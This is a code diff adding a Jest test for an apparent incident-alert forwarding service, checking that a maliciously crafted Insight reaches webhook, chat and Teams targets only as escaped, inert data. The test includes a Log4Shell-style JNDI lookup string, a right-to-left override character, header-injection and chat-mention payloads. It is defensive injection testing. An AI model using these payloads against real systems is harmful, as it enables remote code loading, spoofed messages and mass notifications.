@@ -1,5 +1,6 @@
 import { createHmac } from 'node:crypto';
-import { ActionScene, ID } from '../support/action-scene.ts';
+import { NASTY, RIGHT_TO_LEFT } from '../support/action-events.ts';
+import { ActionScene, ID, TYPES } from '../support/action-scene.ts';
 import type { Json } from '../support/rest.ts';
 
 jest.setTimeout(120_000);
@@ -147,5 +148,29 @@ describe('XSOAR, when an incident got no answer', () => {
     await actions.newInsight(ID(1));
     await actions.minutes(10);
     expect(sent()).toEqual(['/incident/json', '/incident/json']);
+  });
+});
+
+describe('an Insight that is made to do harm', () => {
+  test('reaches the target of every type as nothing but data', async () => {
+    for (const type of TYPES) await actions.addAction(type);
+    const name = `${RIGHT_TO_LEFT} ${NASTY}`;
+    await actions.newInsight(ID(1), { name, description: `${name} ${'漢'.repeat(400_000)}`, [NASTY]: NASTY });
+    await actions.minutes(3);
+    const rows = await actions.deliveries();
+    expect(rows.map(({ state, error }) => [state, error])).toEqual(TYPES.map(() => ['delivered', '']));
+    for (const { path, headers, body } of actions.targets.received) {
+      expect([path, Object.keys(headers).filter((header) => /evil/i.test(header))]).toEqual([path, []]);
+      expect(path).toMatch(/^[\x21-\x7e]+$/);
+      if (headers['content-type']?.startsWith('application/json')) JSON.parse(body);
+    }
+    const [hook] = actions.targets.to('/hook').map(({ body }) => JSON.parse(body) as Json);
+    expect(hook?.['name']).toBe(Buffer.from(name).toString());
+    expect(actions.targets.to('/hook')[0]?.body).toContain('${jndi:ldap://x/a}');
+    const [message] = actions.targets.to('/api/').map(({ body }) => JSON.parse(body) as Json);
+    expect(message?.['text']).toContain('&lt;!channel&gt;');
+    expect(JSON.stringify(message)).not.toContain('\u202e');
+    expect(actions.targets.to('/teams')[0]?.body).not.toContain('<at>x</at>');
+    expect(actions.targets.to('/v2/room')[0]?.body).not.toContain('<at>');
   });
 });
